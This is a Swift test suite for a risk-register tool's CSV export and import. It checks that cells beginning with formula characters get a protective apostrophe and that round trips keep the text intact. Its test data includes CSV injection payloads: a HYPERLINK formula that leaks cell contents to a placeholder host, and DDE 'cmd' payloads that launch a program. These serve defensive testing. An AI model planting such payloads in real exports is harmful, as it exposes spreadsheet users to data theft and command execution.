import Foundation
import Testing

/// Every CSV riskreg writes neutralises cells a spreadsheet would run as formulas (OWASP's CSV
/// injection advice: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
/// leading `'`), and import takes the `'` off again, so export → import → export is unchanged
/// (docs/exports.md, "Formulas").
@Suite(.timeLimit(.minutes(20))) struct CSVFormulaTests {
    /// Texts a spreadsheet would read as formulas, and one that already starts with `'`.
    static let hostile = [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "'=already quoted",
    ]

    /// Formulas after white space, which import trims (so they do not come back exactly).
    static let afterWhiteSpace = ["\t=1+1", "\r=1+1"]

    private func run(_ arguments: [String], data: URL) throws -> Binary.Result {
        try Binary.run(arguments + ["--data", data.path])
    }

    /// A copy of Data/ whose 2021/22 Q3 register has `titles` as the titles of its first entries
    /// and the second hostile text as the first entry's owner.
    private func hostileData(titles: [String] = hostile) throws -> URL {
        let data = try Binary.temporaryData()
        let url = data.appendingPathComponent("lcc-2021-22-q3.json")
        var object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: url)) as? [String: Any])
        var entries = try #require(object["entries"] as? [[String: Any]])
        for (index, text) in titles.enumerated() { entries[index]["title"] = text }
        entries[0]["owner"] = Self.hostile[1]
        object["entries"] = entries
        try JSONSerialization.data(withJSONObject: object).write(to: url)
        return data
    }

    /// The records of CSV text, as python3's csv module reads them.
    private func records(_ text: String, in data: URL) throws -> [[String]] {
        let file = data.appendingPathComponent("read-\(UUID().uuidString).csv")
        try Data(text.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        return try #require(try PythonCheck.run(PythonCheck.csvReader, on: file) as? [[String]])
    }

    @Test func exportPrefixesFormulaCellsAndImportTakesThePrefixOff() throws {
        let data = try hostileData()
        defer { try? FileManager.default.removeItem(at: data) }
        let export = try run(["export", "--register", "lcc-2021-22-q3", "--format", "csv"], data: data)
        #expect(export.status == 0, "\(export.stderr)")
        let rows = try records(export.stdout, in: data)
        let header = try #require(rows.first)
        let title = try #require(header.firstIndex(of: "title"))
        let owner = try #require(header.firstIndex(of: "owner"))
        #expect(rows.dropFirst().prefix(Self.hostile.count).map { $0[title] } == Self.hostile.map { "'" + $0 })
        #expect(rows[1][owner] == "'" + Self.hostile[1])
        #expect(rows.dropFirst(Self.hostile.count + 1).allSatisfy { !$0[title].hasPrefix("'") }, "other cells as they are")

        let sheet = data.appendingPathComponent("hostile.csv")
        try Data(export.stdout.utf8).write(to: sheet)
        let imported = try run(["import", sheet.path, "--period", "2022/23 Q1", "-o", "reimported"], data: data)
        #expect(imported.status == 0, "\(imported.stderr)")
        let register = try Binary.register(data.appendingPathComponent("reimported.json"))
        #expect(register.entries.prefix(Self.hostile.count).map(\.title) == Self.hostile, "the texts come back exactly")
        #expect(register.entries.first?.owner == Self.hostile[1])
        let again = try run(["export", "--register", "reimported", "--format", "csv"], data: data)
        #expect(again.stdout == export.stdout, "export → import → export gives the same bytes")
    }

    @Test func summaryCSVPrefixesFormulaCells() throws {
        let titles = Self.hostile + Self.afterWhiteSpace
        let data = try hostileData(titles: titles)
        defer { try? FileManager.default.removeItem(at: data) }
        let summary = try run(["summary", "--register", "lcc-2021-22-q3", "--format", "csv"], data: data)
        #expect(summary.status == 0, "\(summary.stderr)")
        let rows = try records(summary.stdout, in: data)
        #expect(rows.dropFirst().prefix(titles.count).map { $0[1] } == titles.map { "'" + $0 })

        let printed = try run(["summary", "--register", "lcc-2021-22-q4", "--format", "csv"], data: data)
        let directions = try records(printed.stdout, in: data).dropFirst().map { $0[9] }
        #expect(directions.first == "'+ve (→ level)", "the printed \"+ve\" would be a formula: \(directions)")
    }
}
